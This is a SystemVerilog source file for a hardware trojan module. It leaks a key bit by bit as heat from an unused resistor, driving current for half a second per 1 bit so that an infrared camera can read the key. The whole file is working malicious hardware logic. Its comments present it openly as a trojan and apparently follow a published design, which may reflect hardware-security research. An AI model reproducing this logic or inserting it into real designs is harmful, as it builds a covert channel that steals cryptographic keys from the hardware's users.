// thermal_resistor_trojan: leaks the key as heat in an unused resistor.
//
// For a key bit of 1 the output pin drives current through the resistor for
// the whole bit interval, so it warms up; for a 0 it drives nothing and the
// resistor cools. An infrared camera reads the bits off the heat pattern.
//
// Interface: `trigger` starts one pass over `key`; `heater` is the pin that
// feeds the resistor (1 = current flows). Timing: registered, one cycle
// behind the sequencer; each bit lasts BIT_CYCLES cycles.
//
// From the document: half a second per bit, current for a 1, none for a 0.
// Driving the resistor from a plain logic-high pin is this design's choice.
module thermal_resistor_trojan #(
  parameter int unsigned WIDTH      = 128,
  parameter int unsigned BIT_CYCLES = 25_000_000
) (
  input  logic             clk,
  input  logic             rst,
  input  logic             trigger,
  input  logic [WIDTH-1:0] key,
  output logic             heater,
  output logic             active
);
  logic                     bit_val;
  logic [$clog2(WIDTH)-1:0] bit_index;

  trojan_key_sequencer #(.WIDTH(WIDTH), .BIT_CYCLES(BIT_CYCLES)) u_seq (
    .clk, .rst, .trigger, .key, .active, .bit_val, .bit_index
  );

  always_ff @(posedge clk) begin
    if (rst) heater <= 1'b0;
    else     heater <= bit_val;
  end

endmodule
